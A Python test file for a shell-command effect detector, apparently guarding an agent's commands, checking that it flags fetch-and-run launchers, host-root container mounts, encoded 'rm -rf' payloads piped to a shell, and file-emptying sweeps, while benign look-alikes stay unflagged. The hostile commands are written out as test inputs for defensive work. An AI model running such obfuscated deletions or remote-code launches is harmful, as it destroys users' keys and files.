"""Mechanisms blind-shell-12's first run missed (policies/README.md, "The twelfth blind shell batch"): the effects
they now have, and the everyday look-alikes that keep none."""

from __future__ import annotations

import base64
from pathlib import Path

import pytest
from effect_support import HOME, effects, ops

from hookd.enrich.shell.decoders import decoded

# --- a launcher's package named by a repository shorthand, a tarball URL or a source option: fetched and run ---


@pytest.mark.parametrize(
    ("command", "url"),
    [
        ("npx github:x-example/toolkit", "github:x-example/toolkit"),
        ("bunx github:x-example/cli", "github:x-example/cli"),
        ("pnpm dlx https://x.example.net/tool.tgz", "https://x.example.net/tool.tgz"),
        ("yarn dlx https://x.example.net/tool.tgz", "https://x.example.net/tool.tgz"),
        ("npx -p https://x.example.net/t.tgz t", "https://x.example.net/t.tgz"),
        ("uvx --from git+https://github.com/x-example/cli.git cli", "git+https://github.com/x-example/cli.git"),
        ("uvx --from=https://x.example.net/a-1.0-py3-none-any.whl a", "https://x.example.net/a-1.0-py3-none-any.whl"),
        ("gem install helper --source https://gems.x.example.net", "https://gems.x.example.net"),
    ],
)
def test_a_package_a_launcher_fetches_from_a_url_or_repository_runs_fetched_code(
    command: str, url: str, tmp_path: Path
) -> None:
    assert url in [e.get("url") for e in ops(command, tmp_path, "fetch")]
    assert any(e.get("flow") == "fetch" for e in ops(command, tmp_path, "exec"))


@pytest.mark.parametrize(
    "command",
    ["pnpm dlx prettier --check src", "npx -p typescript tsc --noEmit", "uvx ruff check .", "gem install bundler",
     "uvx --from ./tools/lint lint", "bunx prettier --check ."],
)  # fmt: skip
def test_a_registry_package_or_a_local_one_fetches_nothing(command: str, tmp_path: Path) -> None:
    assert not ops(command, tmp_path, "fetch")


def test_a_repository_shorthand_is_a_repository_for_an_installer(tmp_path: Path) -> None:
    # installed from its source, as a registry's package is (code.py `_VCS_URL`): not a package file's download
    assert not ops("npm install github:x-example/lib", tmp_path, "fetch")


# --- a container given the host's root through a bind mount ---


@pytest.mark.parametrize(
    "command",
    ["docker run --rm -it -v /:/host alpine chroot /host sh",
     "podman run --rm --volume=/:/h:ro alpine ls /h",
     "nerdctl run --rm --mount type=bind,source=/,target=/h alpine sh"],
)  # fmt: skip
def test_the_hosts_root_bound_into_a_container_is_a_privilege(command: str, tmp_path: Path) -> None:
    assert ops(command, tmp_path, "privilege")


@pytest.mark.parametrize(
    "command",
    ["docker run --rm -v /src:/src -w /src node:20 npm test",
     "docker run -v /etc/localtime:/etc/localtime:ro alpine date",
     "docker run -d -v pgdata:/var/lib/postgresql/data postgres:16"],
)  # fmt: skip
def test_a_project_a_file_or_a_named_volume_bound_is_no_privilege(command: str, tmp_path: Path) -> None:
    assert not ops(command, tmp_path, "privilege")


# --- a decoder given a text the line spells out prints a known text ---


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


@pytest.mark.parametrize(
    ("command", "deleted"),
    [
        (f"echo {_b64('rm -rf ~/Documents')} | base64 -d | sh", f"{HOME}/Documents"),
        (f"echo {base64.b32encode(b'rm -rf ~/.ssh').decode()} | base32 --decode | bash", f"{HOME}/.ssh"),
        (f"echo {b'rm -rf ~/.gnupg'.hex()} | xxd -r -p | sh", f"{HOME}/.gnupg"),
        ("echo 'stnemucoD/~ fr- mr' | rev | sh", f"{HOME}/Documents"),
        ("echo 'ez -es ~/Qbphzragf' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | bash", f"{HOME}/Documents"),
        (f"base64 -d <<< {_b64('rm -rf ~/.aws')} | sh", f"{HOME}/.aws"),
    ],
)
def test_a_decoded_text_piped_to_a_shell_is_judged_as_what_it_does(command: str, deleted: str, tmp_path: Path) -> None:
    assert deleted in [e["path"] for e in ops(command, tmp_path, "delete")]


def test_a_decoded_text_that_runs_the_tests_has_no_effect_of_interest(tmp_path: Path) -> None:
    assert effects(f"echo {_b64('pytest -q tests')} | base64 -d | sh", tmp_path) == []


@pytest.mark.parametrize(
    ("name", "argv", "text"),
    [("base64", ["base64", "-d", "-w", "0"], "cm0="),  # an option with a value: not read here
     ("base64", ["base64", "-d", "f.b64"], "cm0="),  # a file operand: the pipe is not read
     ("base64", ["base64"], "rm"),  # encoding, not decoding
     ("base64", ["base64", "-d"], "not base64!"),
     ("tr", ["tr", "-d", "a"], "abc"),
     ("tr", ["tr", "[:lower:]", "[:upper:]"], "abc"),
     ("gunzip", ["gunzip"], "x")],
)  # fmt: skip
def test_what_the_decoder_does_not_read_stays_unknown(name: str, argv: list[str], text: str) -> None:
    assert decoded(name, argv, text) is None


def test_an_undecodable_text_piped_to_a_shell_is_still_code_from_a_decoder(tmp_path: Path) -> None:
    assert any(e.get("flow") == "decode" for e in ops("echo 'not base64!' | base64 -d | sh", tmp_path, "exec"))


# --- a file emptied in place loses its content as a shredded one does ---


def test_each_file_a_search_selects_emptied_is_a_sweep_of_them(tmp_path: Path) -> None:
    found = ops("find ~/Documents -name '*.md' -exec truncate -s 0 {} +", tmp_path, "delete")
    assert [(e["path"], e.get("selected"), e.get("emptied")) for e in found] == [
        (f"{HOME}/Documents/**/*.md", True, True)
    ]


def test_a_file_resized_not_emptied_is_a_write(tmp_path: Path) -> None:
    assert not ops("truncate -s 10M disk.img", tmp_path, "delete")
    assert ops("truncate -s 10M disk.img", tmp_path, "write")
